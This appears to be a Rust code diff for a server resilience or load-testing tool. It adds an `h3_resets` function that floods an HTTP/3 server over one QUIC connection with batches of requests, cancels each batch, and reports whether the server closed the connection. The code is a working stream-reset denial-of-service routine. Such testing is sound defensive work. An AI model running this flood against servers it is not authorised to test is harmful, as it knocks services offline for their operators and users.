@@ -207,3 +207,94 @@ pub async fn quic_handshakes(
         elapsed_ms: u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX),
     })
 }
+
+/// HTTP/3 stream resets: on one QUIC connection, requests in batches of 50, each reset
+/// (RESET_STREAM + STOP_SENDING, H3_REQUEST_CANCELLED) `hold` after it was sent. Up to
+/// `streams`, at most `within`.
+pub async fn h3_resets(
+    target: &Target,
+    path: &str,
+    streams: u64,
+    within: Duration,
+    hold: Duration,
+) -> Result<AttackReport, LoadError> {
+    let cfg = target
+        .tls
+        .clone()
+        .ok_or_else(|| LoadError::Usage("HTTP/3 needs --ca or --insecure".into()))?;
+    let crypto = quinn::crypto::rustls::QuicClientConfig::try_from((*cfg).clone())
+        .map_err(|e| LoadError::Tls(e.to_string()))?;
+    let local: std::net::SocketAddr = if target.addr.is_ipv6() {
+        std::net::SocketAddr::from(([0u16; 8], 0))
+    } else {
+        std::net::SocketAddr::from(([0u8; 4], 0))
+    };
+    let mut endpoint = quinn::Endpoint::client(local).map_err(io("QUIC endpoint"))?;
+    endpoint.set_default_client_config(quinn::ClientConfig::new(Arc::new(crypto)));
+    let quic_err = |e: &dyn std::fmt::Display| LoadError::Io {
+        context: "QUIC".into(),
+        source: std::io::Error::other(e.to_string()),
+    };
+    let conn = endpoint
+        .connect(target.addr, &target.host)
+        .map_err(|e| quic_err(&e))?
+        .await
+        .map_err(|e| quic_err(&e))?;
+    let (mut driver, mut send) = h3::client::new(h3_quinn::Connection::new(conn))
+        .await
+        .map_err(|e| quic_err(&e))?;
+    let (ended_tx, mut ended_rx) = tokio::sync::oneshot::channel::<String>();
+    tokio::spawn(async move {
+        let e = std::future::poll_fn(|cx| driver.poll_close(cx)).await;
+        let _ = ended_tx.send(e.to_string());
+    });
+    let uri = format!("https://{}{path}", target.host);
+    let start = Instant::now();
+    let mut sent = 0;
+    let mut reason = None;
+    let mut held = Vec::new();
+    while sent < streams && start.elapsed() < within {
+        if let Ok(r) = ended_rx.try_recv() {
+            reason = Some(r);
+            break;
+        }
+        let req = http::Request::get(&uri)
+            .body(())
+            .map_err(|e| LoadError::Usage(e.to_string()))?;
+        match tokio::time::timeout(Duration::from_secs(2), send.send_request(req)).await {
+            Ok(Ok(mut stream)) => {
+                if stream.finish().await.is_err() {
+                    reason = Some("stream refused".into());
+                    break;
+                }
+                held.push(stream);
+            }
+            Ok(Err(e)) => {
+                reason = Some(e.to_string());
+                break;
+            }
+            Err(_) => {
+                reason = Some("no stream credit for 2 s".into());
+                break;
+            }
+        }
+        sent += 1;
+        if held.len() >= 50 {
+            tokio::time::sleep(hold).await;
+            for mut s in held.drain(..) {
+                s.stop_sending(h3::error::Code::H3_REQUEST_CANCELLED);
+            }
+        }
+    }
+    if reason.is_none()
+        && let Ok(Ok(r)) = tokio::time::timeout(Duration::from_millis(500), ended_rx).await
+    {
+        reason = Some(r);
+    }
+    Ok(AttackReport {
+        streams: sent,
+        closed_by_server: reason.is_some(),
+        elapsed_ms: u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX),
+        reason,
+    })
+}
